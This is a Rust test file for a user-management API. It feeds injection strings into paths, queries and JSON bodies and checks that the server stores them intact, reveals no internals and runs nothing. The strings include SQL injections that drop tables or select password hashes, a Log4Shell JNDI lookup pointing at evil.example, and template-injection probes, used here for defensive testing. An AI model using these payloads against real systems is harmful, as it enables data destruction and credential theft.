//! Texts that another language would run, in every place where a text may stand.

use super::{Operation, operations, refusal};
use crate::app;
use axum::http::Method;
use serde_json::{Value, json};
use storage::testing::TestDatabase;
use testkit::steps::{ADA, OLD};
use testkit::{Administrator, Answer};
use url::form_urlencoded::byte_serialize;

const TEXTS: [&str; 14] = [
    "' OR 1=1--",
    "\" OR \"\"=\"",
    "'; DROP TABLE users; --",
    "1; DELETE FROM users",
    "%' --",
    "%",
    "\\",
    "$1",
    "?1",
    "\u{2019} OR \u{2018}1\u{2019}=\u{2018}1",
    "\u{0}",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "name) UNION SELECT password_hash FROM users --",
];

/// What no answer says: the words of a database, of a place in our code, or of a template that ran.
const TRACES: [&str; 9] =
    ["sqlite", "postgres", "sqlx", "syntax error", "SELECT ", "relation \"", ".rs:", "panicked", "$argon2"];

fn look(operation: &Operation, place: &str, text: &str, answer: &Answer) {
    let what = format!("{} {place} {text:?}: {} {}", operation.name(), answer.status, answer.html);
    assert!(answer.status.as_u16() < 500, "{what}");
    assert!(operation.statuses.contains(&answer.status.as_u16()), "undocumented: {what}");
    let said = answer.html.replace(text, "");
    for trace in TRACES {
        assert!(!said.to_lowercase().contains(&trace.to_lowercase()), "{trace}: {what}");
    }
    assert!(!said.contains(ADA), "somebody is found: {what}");
}

async fn send(
    administrator: &mut Administrator,
    operation: &Operation,
    path: &str,
    body: Option<Value>,
) -> Answer {
    let method = Method::from_bytes(operation.method.as_bytes()).unwrap();
    administrator.send(method, path, body.as_ref()).await
}

storage::each_database! {
    // AD-07
    async fn a_text_in_a_path_or_query_is_a_value_that_nobody_has(db: TestDatabase) {
        let app = app(db);
        app.add_user(ADA, OLD).await;
        let mut administrator = app.administrator_of_all().await;
        let users = app.db().contents().await["users"].clone();
        for operation in operations(&app).await {
            for text in TEXTS {
                let encoded: String = byte_serialize(text.as_bytes()).collect::<String>().replace('+', "%20");
                if operation.path.contains('{') {
                    for id in [encoded.clone(), format!("auth0%7C{encoded}")] {
                        let path = operation.path_of(&id);
                        let answer = send(&mut administrator, &operation, &path, operation.empty_body()).await;
                        look(&operation, "path", text, &answer);
                    }
                }
                for parameter in &operation.query {
                    // A search for everybody but one is a search; it may find somebody.
                    let path = format!("{}?{parameter}={encoded}", operation.path_of_nothing());
                    let answer = send(&mut administrator, &operation, &path, operation.empty_body()).await;
                    let is_list = answer.status == 200 && !["q", "email", "connection", "identifier"].contains(&parameter.as_str());
                    if !is_list {
                        look(&operation, parameter, text, &answer);
                    }
                }
            }
        }
        assert_eq!(app.db().contents().await["users"], users);
    }

    // AD-07
    async fn a_text_in_a_body_is_kept_or_refused_and_never_run(db: TestDatabase) {
        let app = app(db);
        app.add_user(ADA, OLD).await;
        let mut administrator = app.administrator_of_all().await;
        for operation in operations(&app).await {
            for member in operation.members() {
                for text in TEXTS {
                    let mut body = json!({});
                    body[&member] = json!(text);
                    let answer = send(&mut administrator, &operation, &operation.path_of_nothing(), Some(body)).await;
                    look(&operation, &member, text, &answer);
                }
            }
        }
        let users = app.db().contents().await["users"].clone();
        assert_eq!(users.len(), 1, "nobody came and nobody went");
    }

    // AD-07
    async fn what_no_database_keeps_is_refused_wherever_it_stands(db: TestDatabase) {
        let app = app(db);
        let mut administrator = app.administrator_of_all().await;
        for (member, value) in [
            ("user_metadata", json!({ "a": "b\u{0}" })),
            ("user_metadata", json!({ "a\u{0}": "b" })),
            ("app_metadata", json!({ "a": [{ "b": "\u{0}" }] })),
            ("name", json!("\u{0}")),
            ("email", json!("a\u{0}@mail.example")),
        ] {
            let mut body = json!({ "connection": "Username-Password-Authentication", "email": ADA });
            body[member] = value;
            let answer = administrator.post("/api/v2/users", &body).await;
            let sentence = "Payload validation error: 'Null characters are not allowed'.";
            let expected = refusal(400, "Bad Request", sentence, Some("invalid_body"));
            assert_eq!((answer.status.as_u16(), answer.json()), (400, expected), "{body}");
        }
    }

    // AD-07
    async fn what_is_kept_of_an_account_comes_back_as_it_was(db: TestDatabase) {
        let app = app(db);
        let mut administrator = app.administrator_of_all().await;
        for (number, text) in TEXTS.iter().filter(|text| !text.contains('\0')).enumerate() {
            let email = format!("person-{number}@mail.example");
            let body = json!({
                "connection": "Username-Password-Authentication", "email": email, "verify_email": false,
                "name": text, "nickname": text, "user_metadata": { *text: text }, "app_metadata": { "a": [text] },
            });
            let made = administrator.post("/api/v2/users", &body).await;
            assert_eq!(made.status, 201, "{text}: {}", made.html);
            let id = made.json()["user_id"].as_str().unwrap().replace('|', "%7C");
            let kept = administrator.get(&format!("/api/v2/users/{id}")).await.json();
            for member in ["name", "nickname", "user_metadata", "app_metadata"] {
                assert_eq!(kept[member], body[member], "{text}");
            }
            let found: String = byte_serialize(format!("name:{}", json!(text)).as_bytes()).collect();
            let found = administrator.get(&format!("/api/v2/users?q={found}")).await;
            assert_eq!(found.json()[0]["email"], json!(email), "{text}: {}", found.html);
        }
    }
}
